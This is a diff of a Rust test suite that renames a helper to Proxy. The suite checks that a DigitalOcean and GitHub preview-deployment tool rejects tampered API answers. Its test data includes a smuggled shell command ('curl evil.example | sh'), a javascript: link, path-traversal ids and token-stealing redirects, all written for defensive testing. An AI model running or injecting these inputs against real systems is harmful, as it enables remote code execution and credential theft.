@@ -8,7 +8,7 @@ use std::time::Duration;
 use axum::body::Body;
 use axum::response::Response;
 
-use crate::harness::{Answer, Between, Tester, run};
+use crate::harness::{Answer, Proxy, Tester, run};
 
 /// Every answer with `from` replaced by `to`.
 fn replaced(from: String, to: &'static str) -> Answer {
@@ -28,7 +28,7 @@ async fn an_address_of_another_form_reaches_no_output_and_no_link() {
             t.preview(7).await.succeeds();
             let base = t.sandbox.url("DIGITALOCEAN_API_URL");
             let url = t.app("shop-pr-7").await["live_url"].as_str().unwrap().to_owned();
-            let between = Between::start(&base, move |_, _| replaced(url.clone(), evil)).await;
+            let between = Proxy::start(&base, move |_, _| replaced(url.clone(), evil)).await;
             let status = t
                 .command(["status", "--pr", "7"])
                 .env("DIGITALOCEAN_API_URL", &between.url())
@@ -57,7 +57,7 @@ async fn the_comments_address_is_githubs_or_none() {
     holds!("a vendor", ["lie in a comment"]);
     run(async |t: &mut Tester| {
         t.open_pr(7).await;
-        let between = Between::start(&t.sandbox.url("GITHUB_API_URL"), |_, path| {
+        let between = Proxy::start(&t.sandbox.url("GITHUB_API_URL"), |_, path| {
             if path.contains("/comments") {
                 return Answer::Changed(Box::new(|text| {
                     text.replace("\"html_url\":\"http", "\"html_url\":\"javascript:http")
@@ -80,7 +80,7 @@ async fn an_answer_whose_identifier_is_more_than_one_word_is_not_believed() {
         t.open_pr(7).await;
         t.preview(7).await.succeeds();
         let id = t.app("shop-pr-7").await["id"].as_str().unwrap().to_owned();
-        let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
+        let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
             replaced(format!("\"{id}\""), "\"a; curl evil.example | sh\"")
         })
         .await;
@@ -102,7 +102,7 @@ fn redirect(status: u16, to: &str) -> Answer {
 async fn digitalocean_sends_no_request_to_another_host_and_no_answer_from_there_is_believed() {
     holds!("a vendor", ["use a token"]);
     run(async |t: &mut Tester| {
-        let thief = Between::start("http://127.0.0.1:1", |_, _| {
+        let thief = Proxy::start("http://127.0.0.1:1", |_, _| {
             unreachable!("the token and the spec went elsewhere")
         })
         .await;
@@ -111,7 +111,7 @@ async fn digitalocean_sends_no_request_to_another_host_and_no_answer_from_there_
         let spec = t.app("shop").await["spec"].clone();
         for method in ["GET", "PUT"] {
             let elsewhere = thief.url();
-            let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| match asked {
+            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| match asked {
                 _ if asked == method => redirect(307, &format!("{elsewhere}{path}")),
                 _ => Answer::Changed(Box::new(|text| text)),
             })
@@ -133,7 +133,7 @@ async fn github_may_redirect_within_its_host_and_nowhere_else() {
         let base = t.sandbox.url("GITHUB_API_URL");
         // Every request is sent to the same place once more, as a renamed repository's is to another of the host.
         let redirected = AtomicBool::new(false);
-        let renamed = Between::start(&base, move |method, path| {
+        let renamed = Proxy::start(&base, move |method, path| {
             if redirected.fetch_xor(true, Ordering::Relaxed) {
                 return Answer::Changed(Box::new(|text| text));
             }
@@ -142,7 +142,7 @@ async fn github_may_redirect_within_its_host_and_nowhere_else() {
         .await;
         t.deploy().env("GITHUB_API_URL", &renamed.url()).await.succeeds();
 
-        let elsewhere = Between::start(&base, |_, path| redirect(302, &format!("http://localhost:1{path}"))).await;
+        let elsewhere = Proxy::start(&base, |_, path| redirect(302, &format!("http://localhost:1{path}"))).await;
         let refused = t.deploy().env("GITHUB_API_URL", &elsewhere.url()).await;
         refused.says("302, but a redirect to `localhost` instead of JSON");
     })
@@ -159,7 +159,7 @@ async fn an_answer_without_an_end_ends_the_request_and_not_the_runner() {
             Answer::Instead(Response::new(Body::from_stream(pieces)))
         };
         for variable in ["DIGITALOCEAN_API_URL", "GITHUB_API_URL"] {
-            let between = Between::start(&t.sandbox.url(variable), endless).await;
+            let between = Proxy::start(&t.sandbox.url(variable), endless).await;
             let deploy = t.deploy().env(variable, &between.url()).await;
             deploy.says("200, but more than 32 MiB instead of JSON");
             assert_ne!(deploy.exit_code(), Some(0), "{deploy}");
@@ -187,7 +187,7 @@ async fn an_answer_that_comes_in_drops_does_not_outlast_the_runs_time() {
         };
         let dripping = async |variable: &str| {
             let asked = Arc::new(AtomicUsize::new(0));
-            let between = Between::start(&t.sandbox.url(variable), drops(asked.clone())).await;
+            let between = Proxy::start(&t.sandbox.url(variable), drops(asked.clone())).await;
             let deploy = t.deploy().args(["--timeout", "1s"]).env(variable, &between.url());
             let ended = tokio::time::timeout(Duration::from_secs(45), deploy.into_future()).await;
             let ended = ended.unwrap_or_else(|_| panic!("it goes on after 45 s, with {asked:?} requests"));
@@ -207,7 +207,7 @@ async fn a_preview_that_is_dated_in_the_future_is_not_removed_for_its_age() {
         let comment = t.comments(1).await[0]["id"].clone();
         let path = format!("/repos/org/shop/issues/comments/{comment}");
         t.github("DELETE", &path, None).await.expect(204);
-        let later = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), |_, _| {
+        let later = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), |_, _| {
             Answer::Changed(Box::new(|text| {
                 text.replace(
                     "\"last_deployment_created_at\":\"20",
@@ -233,7 +233,7 @@ async fn an_answer_about_another_repository_is_not_believed_unless_a_redirect_le
         let base = t.sandbox.url("GITHUB_API_URL");
         let named =
             |text: String, name: &str| text.replace("\"full_name\":\"org/shop\"", &format!("\"full_name\":\"{name}\""));
-        let other = Between::start(&base, move |_, path| {
+        let other = Proxy::start(&base, move |_, path| {
             let is_it = path == "/repos/org/shop";
             Answer::Changed(Box::new(
                 move |text| if is_it { named(text, "org/other") } else { text },
@@ -247,7 +247,7 @@ async fn an_answer_about_another_repository_is_not_believed_unless_a_redirect_le
                 .touches_nothing()
                 .says("200, but JSON about another repository instead of JSON");
         }
-        let spelt = Between::start(&base, move |_, _| {
+        let spelt = Proxy::start(&base, move |_, _| {
             Answer::Changed(Box::new(move |text| named(text, "Org/Shop")))
         })
         .await;
@@ -257,7 +257,7 @@ async fn an_answer_about_another_repository_is_not_believed_unless_a_redirect_le
             .succeeds();
         // As after a rename: <https://docs.github.com/rest/using-the-rest-api/best-practices-for-using-the-rest-api>
         let redirected = AtomicBool::new(false);
-        let renamed = Between::start(&base, move |_, path| {
+        let renamed = Proxy::start(&base, move |_, path| {
             if path == "/repos/org/shop" && !redirected.fetch_xor(true, Ordering::Relaxed) {
                 return redirect(301, path);
             }
@@ -282,7 +282,7 @@ async fn an_app_whose_id_leads_out_of_its_path_is_not_removed_and_not_said_to_be
         let id = t.app("shop-pr-1").await["id"].as_str().unwrap().to_owned();
         for evil in ["..", "."] {
             let own = id.clone();
-            let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
+            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| {
                 let own = own.clone();
                 Answer::Changed(Box::new(move |text| {
                     text.replace(&format!("\"id\":\"{own}\""), &format!("\"id\":\"{evil}\""))
@@ -301,19 +301,19 @@ async fn an_app_whose_id_leads_out_of_its_path_is_not_removed_and_not_said_to_be
     .await;
 }
 
-/// Whoever gets to see the request would have the token.
+/// A server that sees the request would have the token.
 #[tokio::test]
 async fn a_token_for_this_machine_goes_through_no_proxy() {
     holds!("a vendor", ["use a token"]);
     run(async |t: &mut Tester| {
-        let thief = Between::start("http://127.0.0.1:1", |_, _| unreachable!("the token went elsewhere")).await;
+        let thief = Proxy::start("http://127.0.0.1:1", |_, _| unreachable!("the token went elsewhere")).await;
         t.deploy().await.succeeds();
         let in_front =
-            async |key: &str| Between::start(&t.sandbox.url(key), |_, _| Answer::Changed(Box::new(|text| text))).await;
+            async |key: &str| Proxy::start(&t.sandbox.url(key), |_, _| Answer::Changed(Box::new(|text| text))).await;
         let cloud = in_front("DIGITALOCEAN_API_URL").await;
         let github = in_front("GITHUB_API_URL").await;
         for host in ["127.0.0.1", "localhost", "api.localhost", "localhost."] {
-            let api = |between: &Between| between.url().replace("127.0.0.1", host);
+            let api = |between: &Proxy| between.url().replace("127.0.0.1", host);
             let mut status = t.command(["status"]);
             for proxy in ["HTTP_PROXY", "http_proxy", "ALL_PROXY"] {
                 status = status.env(proxy, &thief.url());
@@ -338,7 +338,7 @@ async fn a_reply_about_another_app_is_a_reply_that_was_lost() {
         let production = t.app("shop").await;
         for method in ["POST", "PUT"] {
             let app = production.clone();
-            let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| {
+            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |asked, path| {
                 let app = app.clone();
                 let is_it = asked == method && path.starts_with("/v2/apps") && !path.ends_with("/propose");
                 Answer::Changed(Box::new(move |text| match is_it {
@@ -366,7 +366,7 @@ async fn a_listing_without_an_end_ends_the_request_and_not_the_runner() {
             let blanks = " ".repeat(24 << 20);
             Answer::Instead(Response::new(Body::from(format!("{page}{blanks}}}"))))
         };
-        let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| page()).await;
+        let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, _| page()).await;
         let status = t.command(["status"]).env("DIGITALOCEAN_API_URL", &between.url()).await;
         status.fails_with(3).says("200, but more than 64 MiB instead of JSON");
     })
@@ -382,7 +382,7 @@ async fn nothing_is_removed_by_an_answer_about_another_pull_request() {
         t.preview(1).await.succeeds();
         t.close_pr(2).await;
         let other = t.github("GET", "/repos/org/shop/pulls/2", None).await.expect(200);
-        let between = Between::start(&t.sandbox.url("GITHUB_API_URL"), move |_, path| {
+        let between = Proxy::start(&t.sandbox.url("GITHUB_API_URL"), move |_, path| {
             let (is_it, other) = (path.ends_with("/pulls/1"), other.to_string());
             Answer::Changed(Box::new(move |text| if is_it { other.clone() } else { text }))
         })
@@ -405,7 +405,7 @@ async fn an_app_that_a_listing_counts_and_does_not_show_is_not_said_to_be_gone()
             r#"{"meta":{"total":1}}"#,
             r#"{"apps":[],"links":{},"meta":{"total":1}}"#,
         ] {
-            let between = Between::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, path| {
+            let between = Proxy::start(&t.sandbox.url("DIGITALOCEAN_API_URL"), move |_, path| {
                 match path.starts_with("/v2/apps?") {
                     true => Answer::Instead(Response::new(Body::from(listed))),
                     false => Answer::Changed(Box::new(|text| text)),
